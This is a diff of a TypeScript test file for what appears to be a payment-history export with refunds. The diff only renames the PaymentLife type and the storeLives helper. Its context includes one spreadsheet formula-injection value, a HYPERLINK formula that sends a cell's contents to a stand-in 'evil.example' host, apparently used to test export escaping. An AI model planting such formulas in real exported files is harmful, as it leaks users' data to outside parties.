@@ -10,7 +10,7 @@ import { createTestApi } from '@/test/support/api';
 import { createTestDatabase } from '@/test/support/database';
 import { createTestKey } from '@/test/support/factories';
 import { openForTestFile } from '@/test/support/open-for-test-file';
-import { type PaymentLife, storeLives } from '@/test/support/random-lives';
+import { type PaymentHistory, storePaymentHistories } from '@/test/support/random-lives';
 
 const base = await openForTestFile(createTestDatabase());
 const api = createTestApi(base);
@@ -19,7 +19,7 @@ const FORMULA = '=HYPERLINK("http://evil.example?"&A1;"Click"), 1';
 const CUSTOMER = 'Zoë "Z" Müller';
 let owner: Member;
 
-const life = (id: string, at: string, change: Partial<PaymentLife> = {}): PaymentLife => ({
+const life = (id: string, at: string, change: Partial<PaymentHistory> = {}): PaymentHistory => ({
   ...{ id, asked: 100_000, price: null, status: 'confirmed', flags: [], done: [] },
   ...{ acceptedAt: null, received: 100_000, waiting: 0, rate: '50000.00000001', refunds: [] },
   confirmedAt: Date.parse(at),
@@ -34,7 +34,7 @@ beforeAll(async () => {
   await setDisplayCurrency(base.db, owner, 'EUR' as Currency, NOW);
   const sentAt = Date.parse('2026-11-30T22:59:59.999Z');
   const refund = { sats: 30_000, price: paid('12.30').price, feeSats: 141, sentAt };
-  await storeLives(base.db, key, [
+  await storePaymentHistories(base.db, key, [
     life('pay_1', '2026-10-31T23:00:00Z', paid('1234.56')),
     life('pay_2', '2026-11-15T12:00:00Z', { refunds: [{ ...refund, status: 'sent' }] }),
     life('pay_3', '2026-11-16T12:00:00Z', { rate: null }),
